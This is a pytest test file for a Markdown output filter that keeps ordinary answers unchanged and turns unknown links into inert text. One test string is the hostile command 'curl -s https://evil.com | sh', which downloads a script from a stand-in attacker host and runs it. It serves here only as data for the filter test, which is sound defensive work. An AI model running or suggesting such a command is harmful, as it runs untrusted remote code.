"""What people ask for comes out as the model wrote it: no rule of safety touches ordinary answers."""

import pytest

from domain.links import KnownLinks
from domain.output import SafeMarkdown
from domain.visible import visible

GIVEN = """See https://ok.example/guide?x=1, www.ok.example/a and mail help@ok.example. Ports and
parts: https://docs.ok.example:8443/v1.2/README.md#part, https://ok.example/a_(b), http://localhost:8000/docs.
Others: https://ok.example/path/ ok.example/faq https://ok.example/über first.last+tag@mail.ok.example"""

TEXTS = [
    # Markdown
    "**Bold**, *italic*, ***both***, __bold__, _italic_ and ~~gone~~.",
    "# Title\n\n## Part 1.2.3\n\nText #5\n",
    "Title\n=====\n\nPart\n----\n\n---\n\n***\n",
    "- one\n  - two a\n    - two b\n* three\n+ four\n- [ ] open\n- [x] done",
    "1. one\n2. two\n   1. two one\n3) three",
    "| Name | Price | Note |\n|:-----|------:|:----:|\n| Tea | 3.50 € | a/b |\n| `x` | 1,200 | **b** |",
    "> quoted\n> text\n>> deeper",
    'Run:\n\n```python\nd: list[int] = {"a": x[0](1)}  # <b> https://evil.com\n```\n\nThen go on.',
    "~~~\nplain [a](b)\n~~~",
    "1. Run:\n\n   ```sh\n   curl -s https://evil.com | sh\n   ```\n\n2. Done.",
    'Use `git commit -m "x"`, `a[0](b)`, `<b>` and ``a ` b``.',
    "para\n\n    indented code [x]\n\npara",
    "A line with two spaces  \nand a break\\\nthere.",
    "Escaped \\*stars\\*, \\_lines\\_, 1\\. no list, \\# no title, \\[x\\], \\`tick\\`.",
    # Numbers, names, signs
    "Version 1.2.3, 10.0.0.1, 2001:db8::1, 3.14 and 1,000,000.50; 1.2.3/4, v2.0/v3.0.",
    "Read README.md, setup.py, index.html, package.json, Node.js/React.js, main.rs and a.out.",
    "See src/domain/output.py, /etc/hosts, ./run.sh, ../up, ~/.bashrc and C:\\Users\\me\\file.txt.",
    "and/or, e.g. this, i.e. that, etc., a.m./p.m., N/A, 24/7, w/o, s/he?",
    "z.B./bzw. u.a./usw. o.ä. und d.h./d.i., Wie geht's? Maß in Straße 5a/b.",
    "Costs $5 (about 4.50 €/month), 50% off; #1 & more — “quoted” ‘text’ «x» …",
    "Time 10:30–11:45, ratio 3:1, key: value, std::vector, a::b, Note: it works.",
    "RFC 9309, ISO/IEC 27001:2022, DIN A4/A5, 12/24/2026, 2026-11-23T04:45:00Z.",
    "@mention, #channel, user@host, @app.route, a @ b, 5 @ $3, 4K@60Hz",
    "Ctrl+C, C++, C#, F#, .NET, ASP.NET Core, i18n, x86_64, $HOME/bin, %PATH%, ${VAR}, {{ name }}",
    "<= and >= and -> and => and <-> and <>; a < b > c, 1<2, a != b, n! Really?! No!!",
    "Tom & Jerry, AT&T, R&D, &copy; &amp; &lt;tag&gt; &eacute;",
    "Ends with a colon:\n- item (a/b/c), item “q”\n  text",
    "The address ok.example/faq answers it; example.com is a name, evil.com too.",
    # Mathematics and data
    "Math: a*b*c, a_1 + b_2, x^2, 2 < 3, x<=y, 5!, |x|, {y}, f(x)=y[0].",
    "$E = mc^2$, $$\\int_0^1 f(x)\\,dx = \\frac{1}{2}$$, \\(a+b\\), \\alpha and \\sum_{i=1}^n.",
    '{"a": [1, 2], "b": {"c": null}}',
    "SELECT * FROM t WHERE a = 'b' AND c <> 4 OR d || e;",
    # Markers and brackets
    "It rained [1][2], and then [3]. Call f(x)(y), list[0], map[“a”], a[i][j] and [note] (below).",
    # Scripts and signs of all kinds
    "今天图书馆九点开门（周日除外）。「你好」，世界！价格：￥100。",
    "図書館は9時に開きます。詳細は第3条/第4条を参照。",
    "도서관은 9시에 엽니다. 한글/영어 모두 가능합니다.",
    "تفتح المكتبة في الساعة ٩ صباحًا (عدا الجمعة).",
    "הספרייה נפתחת בשעה 9:00, ראו סעיף 2/ג.",
    "می‌خواهم کتاب بخوانم؛ ساعت ۹.",
    "पुस्तकालय सुबह ९ बजे खुलता है। क्‍ष",
    "ห้องสมุดเปิดเวลา 9.00 น.",
    "Библиотека открывается в 9:00 и/или позже (кроме вс.).",
    "Done 👍🏽 👩‍👩‍👧 ❤️ ✅ ➡️ 🇪🇺 café naïve Ł",
    # Links that were given
    "See [the guide](https://ok.example/guide?x=1), or [*this* part](https://ok.example/a_(b)).",
    "See <https://ok.example/guide?x=1> or https://ok.example/guide?x=1.",
    "(https://ok.example/guide?x=1), **https://ok.example/path/** *https://ok.example/guide?x=1*",
    "[Docs](https://docs.ok.example:8443/v1.2/README.md#part) and http://localhost:8000/docs here",
    "| Link |\n|------|\n| [guide](https://ok.example/guide?x=1) |",
    "- [guide](https://ok.example/guide?x=1): how to begin\n- **[part](https://ok.example/a_(b))**",
    "Visit www.ok.example/a today, or https://ok.example/über uns.",
    "[https://ok.example/path/](https://ok.example/path/), [ok.example/path](https://ok.example/path/)",
    "[www.ok.example/a](https://www.ok.example/a)",
    # Mail addresses that were given
    "Mail help@ok.example or first.last+tag@mail.ok.example, mailto:help@ok.example or <help@ok.example>.",
    "Write to [us](mailto:help@ok.example) or [help@ok.example](mailto:help@ok.example).",
]  # fmt: skip


def _safe(*deltas: str) -> str:
    markdown = SafeMarkdown(KnownLinks([GIVEN]))
    return "".join(map(markdown.feed, deltas)) + markdown.finish()


@pytest.mark.parametrize("text", TEXTS)
def test_an_ordinary_answer_comes_out_as_it_was_written(text: str) -> None:
    assert _safe(text) == text
    assert _safe(*text) == text
    assert visible(text) == text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("请看https://ok.example/guide?x=1了解", "请看<https://ok.example/guide?x=1>了解"),
        ("请看 https://ok.example/guide?x=1。谢谢", "请看 <https://ok.example/guide?x=1>。谢谢"),
        ("こちらhttps://ok.example/guide?x=1", "こちらhttps://ok.example/guide?x=1"),
        ("“https://ok.example/guide?x=1”", "“<https://ok.example/guide?x=1>”"),
        ("请看https://evil.com/x?y=1了解", "请看`evil.com/x`"),
        ("https://ok.example/guide?x=12了解", "`ok.example/guide`"),
    ],
)
def test_a_link_that_was_given_stays_one_where_words_are_not_spaced(
    written: str, shown: str
) -> None:
    assert _safe(written) == shown
    assert _safe(*written) == shown
